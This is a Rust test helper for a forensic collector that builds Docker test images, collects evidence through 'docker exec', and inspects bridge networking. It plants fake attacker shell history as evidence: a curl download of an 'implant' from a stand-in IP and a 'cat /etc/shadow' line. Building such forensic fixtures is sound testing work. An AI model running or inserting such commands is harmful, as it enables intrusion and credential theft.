//! Real Docker containers for tests: images built locally from Debian packages (no
//! registry), containers removed on drop, and collection through `docker exec`.
//! Needs `CAIRN_MUSL_BIN` and a Docker daemon; under `CI=true` their absence fails.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

pub fn require(what: &str) -> bool {
    if std::env::var("CI").as_deref() == Ok("true") {
        panic!("{what} is required under CI=true");
    }
    eprintln!("\n!!!!! SKIPPING container test: {what} is missing (run tests/run-all.sh) !!!!!\n");
    false
}

pub fn docker(args: &[&str]) -> std::process::Output {
    Command::new("docker")
        .args(args)
        .output()
        .expect("docker CLI")
}

pub fn ok(args: &[&str]) -> String {
    let o = docker(args);
    assert!(
        o.status.success(),
        "docker {args:?}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).trim().to_owned()
}

pub fn setup() -> Option<PathBuf> {
    let bin = match std::env::var("CAIRN_MUSL_BIN") {
        Ok(b) if Path::new(&b).is_file() => PathBuf::from(b),
        _ => {
            require("CAIRN_MUSL_BIN (static musl collector)");
            return None;
        }
    };
    let daemon = Command::new("docker")
        .arg("info")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    if !daemon.map(|s| s.success()).unwrap_or(false) {
        require("a running Docker daemon");
        return None;
    }
    Some(bin)
}

/// A busybox image from Debian's busybox-static, built once per machine.
pub fn busybox_image() -> &'static str {
    const IMG: &str = "cairn-test-busybox:2";
    if !docker(&["image", "inspect", IMG]).status.success() {
        build_busybox(Path::new("/bin/busybox"), "amd64", IMG);
    }
    IMG
}

/// The same busybox image for arm64 (Debian's busybox-static:arm64, which
/// `tests/run-all.sh` unpacks into `tests/.work/arm64/`), run through qemu binfmt; `None`
/// (and a loud skip, or a failure under CI) without it or without binfmt.
pub fn busybox_image_arm64() -> Option<&'static str> {
    const IMG: &str = "cairn-test-busybox-arm64:1";
    if docker(&["image", "inspect", IMG]).status.success() {
        return Some(IMG);
    }
    let Some(bb) = crate::stores::tool("CAIRN_BUSYBOX_ARM64", "arm64/bin/busybox") else {
        require("busybox for arm64 (tests/.work/arm64/bin/busybox)");
        return None;
    };
    if !Path::new("/proc/sys/fs/binfmt_misc/qemu-aarch64").exists() {
        require("qemu binfmt for aarch64 (update-binfmts --enable qemu-aarch64)");
        return None;
    }
    build_busybox(&bb, "arm64", IMG);
    Some(IMG)
}

/// Builds a busybox image for `arch` from the static busybox at `bb`.
fn build_busybox(bb: &Path, arch: &str, img: &str) {
    let t = tempfile::tempdir().unwrap();
    let r = &t.path().join("root");
    for d in [
        "bin", "sbin", "usr/bin", "usr/sbin", "etc", "tmp", "root", "home/app", "var/log", "proc",
        "sys", "dev",
    ] {
        std::fs::create_dir_all(r.join(d)).unwrap();
    }
    std::fs::copy(bb, r.join("bin/busybox")).expect("busybox-static installed");
    let st = Command::new("chroot")
        .arg(r)
        .args(["/bin/busybox", "--install", "-s", "/bin"])
        .status()
        .unwrap();
    assert!(st.success());
    std::fs::write(
        r.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000:app:/home/app:/bin/sh\n",
    )
    .unwrap();
    std::fs::write(r.join("etc/group"), "root:x:0:\napp:x:1000:\n").unwrap();
    // Evidence baked into the image: a root-only history and a world-readable log.
    std::fs::write(r.join("root/.bash_history"), "image-history\n").unwrap();
    std::fs::write(r.join("var/log/image.log"), "baked log line\n").unwrap();
    std::fs::write(r.join("home/app/.ash_history"), "cat /etc/shadow\n").unwrap();
    let prepare = format!(
        "chmod 1777 {r}/tmp && chmod 700 {r}/root && chmod 600 {r}/root/.bash_history && chown -R 1000:1000 {r}/home/app && chmod 777 {r}/var/log && tar -C {r} --numeric-owner -cf {r}.tar .",
        r = r.display()
    );
    let st = Command::new("sh").arg("-c").arg(prepare).status().unwrap();
    assert!(st.success(), "laying out {img}");
    // `docker import` records the machine's architecture whatever the files are; a
    // build from scratch records the platform asked for.
    let dockerfile =
        "FROM scratch\nADD root.tar /\nENV PATH=/bin:/sbin:/usr/bin:/usr/sbin\nCMD [\"/bin/sh\"]\n";
    std::fs::write(t.path().join("Dockerfile"), dockerfile).unwrap();
    let ctx = t.path().join("ctx");
    std::fs::create_dir_all(&ctx).unwrap();
    std::fs::rename(t.path().join("root.tar"), ctx.join("root.tar")).unwrap();
    std::fs::rename(t.path().join("Dockerfile"), ctx.join("Dockerfile")).unwrap();
    let o = Command::new("docker")
        .env("DOCKER_BUILDKIT", "0")
        .args([
            "build",
            "-q",
            "--platform",
            &format!("linux/{arch}"),
            "-t",
            img,
        ])
        .arg(&ctx)
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "building {img}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
}

pub struct Container(pub String);
impl Drop for Container {
    fn drop(&mut self) {
        let _ = docker(&["rm", "-f", &self.0]);
    }
}

pub fn collect_via_exec(ct: &str, exe: &str, user: Option<&str>, dir: &Path) -> PathBuf {
    let out = dir.join(format!("{ct}.tar.zst"));
    let f = std::fs::File::create(&out).unwrap();
    let mut args = vec!["exec".to_owned()];
    if let Some(u) = user {
        args.extend(["--user".to_owned(), u.to_owned()]);
    }
    args.extend([
        ct.to_owned(),
        exe.to_owned(),
        "collect".into(),
        "--output".into(),
        "-".into(),
        "--progress".into(),
        "json".into(),
    ]);
    let o = Command::new("docker")
        .args(&args)
        .stdout(f)
        .stderr(Stdio::piped())
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "collect in {ct}: {err}");
    assert!(err.contains("\"event\":\"done\""), "{err}");
    crate::verify_ok(&crate::musl_bin(), &out);
    out
}

/// The Debian mirror apt uses on this machine (deb822 or one-line sources), so
/// debootstrap reaches the same packages apt does.
fn debian_mirror() -> String {
    let mut texts = Vec::new();
    if let Ok(rd) = std::fs::read_dir("/etc/apt/sources.list.d") {
        for e in rd.flatten() {
            texts.push(std::fs::read_to_string(e.path()).unwrap_or_default());
        }
    }
    texts.push(std::fs::read_to_string("/etc/apt/sources.list").unwrap_or_default());
    for t in &texts {
        for l in t.lines() {
            let w: Vec<&str> = l.split_whitespace().collect();
            let url = match w.first() {
                Some(&"URIs:") => w.get(1),
                Some(&"deb") => w.iter().skip(1).find(|s| s.starts_with("http")),
                _ => None,
            };
            // Other repositories (security, nodesource, ...) sit in the same files.
            if let Some(u) = url.filter(|u| u.trim_end_matches('/').ends_with("/debian")) {
                return u.to_string();
            }
        }
    }
    "http://deb.debian.org/debian".into()
}

/// A Debian bookworm image built with debootstrap (minbase plus netcat-openbsd), a
/// uid-1000 user `app`, and a root bash history baked in. Built once per machine
/// (~40 s); `None` when debootstrap is missing (a failure under CI=true).
pub fn debian_image() -> Option<&'static str> {
    const IMG: &str = "cairn-test-debian:1";
    if docker(&["image", "inspect", IMG]).status.success() {
        return Some(IMG);
    }
    if !Path::new("/usr/sbin/debootstrap").exists() {
        require("debootstrap (apt install debootstrap)");
        return None;
    }
    let t = tempfile::tempdir().unwrap();
    let r = t.path().join("root");
    let mirror = debian_mirror();
    let o = Command::new("debootstrap")
        .args(["--variant=minbase", "--include=netcat-openbsd", "bookworm"])
        .arg(&r)
        .arg(&mirror)
        .output()
        .expect("debootstrap");
    let tail = |b: &[u8]| {
        let t = String::from_utf8_lossy(b);
        t.lines().rev().take(15).collect::<Vec<_>>().join("\n")
    };
    assert!(
        o.status.success(),
        "debootstrap from {mirror} failed:\n{}\n{}",
        tail(&o.stdout),
        tail(&o.stderr)
    );
    let sh = format!(
        "set -e; r={r}; rm -rf $r/var/cache/apt/* $r/var/lib/apt/lists/*; \
         chroot $r useradd -u 1000 -m -s /bin/bash app; \
         printf 'curl http://203.0.113.9/implant -o /tmp/i\\n' > $r/root/.bash_history; chmod 600 $r/root/.bash_history; \
         printf 'id\\n' > $r/home/app/.bash_history; chown 1000:1000 $r/home/app/.bash_history; \
         tar -C $r --numeric-owner -cf {t}/img.tar . && docker import -c 'CMD [\"/bin/bash\"]' \
         -c 'ENV PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin' {t}/img.tar {IMG} >/dev/null",
        r = r.display(),
        t = t.path().display()
    );
    let st = Command::new("sh").arg("-c").arg(sh).status().unwrap();
    assert!(st.success(), "building {IMG}");
    Some(IMG)
}

/// Bootstrap leftovers (`.cairn.*`) anywhere the bootstrap may have written in `ct`.
pub fn leftovers(ct: &str) -> String {
    ok(&[
        "exec",
        ct,
        "sh",
        "-c",
        "ls -a /dev /dev/shm /tmp /var/tmp /root /home/app / 2>/dev/null | grep cairn || true",
    ])
}

/// The zombie processes in a container (state Z), as `PID COMM` lines: what a
/// collection left for a PID 1 that does not reap.
pub fn zombies(ct: &str) -> String {
    ok(&[
        "exec",
        ct,
        "sh",
        "-c",
        "for s in /proc/[0-9]*/stat; do read -r l < \"$s\" 2>/dev/null || continue; case $l in *') Z '*) echo \"$l\";; esac; done",
    ])
}

/// The host's address on Docker's default bridge, which containers reach.
pub fn bridge_gateway() -> String {
    host_address("bridge")
}

/// What `docker network inspect NETWORK` says about reaching the host from it.
#[derive(Debug, PartialEq, Eq)]
pub struct BridgeFacts {
    /// The IPAM Gateway, when the daemon recorded one. A daemon that adopted an
    /// existing `docker0`, and a user-defined network created with `--subnet` alone,
    /// record none.
    pub gateway: Option<std::net::Ipv4Addr>,
    /// The bridge interface on the host: the `com.docker.network.bridge.name` option
    /// (`docker0` for the default bridge), else `br-` and the first 12 digits of the ID.
    pub interface: String,
}

/// Reads [`BridgeFacts`] from `docker network inspect` output (a JSON array of one).
pub fn bridge_facts(inspect: &str) -> Result<BridgeFacts, String> {
    let v: serde_json::Value =
        serde_json::from_str(inspect).map_err(|e| format!("not JSON ({e}): {inspect}"))?;
    let n = v.get(0).unwrap_or(&v);
    if n["Driver"] != "bridge" {
        return Err(format!("not a bridge network: driver {}", n["Driver"]));
    }
    let gateway = n["IPAM"]["Config"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|c| c["Gateway"].as_str())
        .find_map(|g| g.split('/').next()?.parse().ok());
    let interface = match n["Options"]["com.docker.network.bridge.name"].as_str() {
        Some(name) if !name.is_empty() => name.to_owned(),
        _ => {
            let id = n["Id"].as_str().unwrap_or_default();
            if id.len() < 12 {
                return Err(format!("no bridge name and no network ID in: {inspect}"));
            }
            format!("br-{}", &id[..12])
        }
    };
    Ok(BridgeFacts { gateway, interface })
}

/// The IPv4 default gateway in a `/proc/net/route` table (little-endian hex).
pub fn default_route(table: &str) -> Option<std::net::Ipv4Addr> {
    table.lines().skip(1).find_map(|l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        if f.get(1) != Some(&"00000000") {
            return None;
        }
        let g = u32::from_str_radix(f.get(2)?, 16).ok()?;
        (g != 0).then(|| std::net::Ipv4Addr::from(g.swap_bytes()))
    })
}

/// The first IPv4 address of a host interface (`ip -4 -o addr show dev IF`).
fn interface_ipv4(interface: &str) -> Option<std::net::Ipv4Addr> {
    let o = Command::new("ip")
        .args(["-4", "-o", "addr", "show", "dev", interface])
        .output()
        .ok()?;
    let text = String::from_utf8_lossy(&o.stdout);
    let mut words = text.split_whitespace();
    words.find(|w| *w == "inet")?;
    words.next()?.split('/').next()?.parse().ok()
}

/// The address containers on `network` reach this host at, whatever state Docker is
/// in: the network's recorded Gateway, else the address of its bridge interface, else
/// the default route a container on it sees. Panics naming what was tried when none
/// gives an address, so no test ever builds a URL with an empty host.
pub fn host_address(network: &str) -> String {
    let inspect = ok(&["network", "inspect", network]);
    let facts =
        bridge_facts(&inspect).unwrap_or_else(|e| panic!("docker network inspect {network}: {e}"));
    if let Some(g) = facts.gateway {
        return g.to_string();
    }
    if let Some(a) = interface_ipv4(&facts.interface) {
        return a.to_string();
    }
    let o = docker(&[
        "run",
        "--rm",
        "--network",
        network,
        busybox_image(),
        "cat",
        "/proc/net/route",
    ]);
    let table = String::from_utf8_lossy(&o.stdout);
    if let Some(a) = default_route(&table) {
        return a.to_string();
    }
    panic!(
        "no address for the host on Docker network {network}: no IPAM Gateway, no IPv4 address on interface {}, and no default route inside a container on it ({})",
        facts.interface,
        String::from_utf8_lossy(&o.stderr).trim()
    )
}

/// A user-defined bridge network, removed on drop.
pub struct Network(pub String);
impl Drop for Network {
    fn drop(&mut self) {
        let _ = docker(&["network", "rm", &self.0]);
    }
}

/// Serves `body` to every GET on a port of every interface, so containers reach it
/// through the bridge; returns the port.
pub fn serve(body: Vec<u8>) -> u16 {
    use std::io::{Read, Write};
    let l = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in l.incoming() {
            let Ok(mut c) = c else { continue };
            let mut buf = [0u8; 4096];
            let _ = c.read(&mut buf);
            let _ = write!(
                c,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            let _ = c.write_all(&body);
        }
    });
    port
}
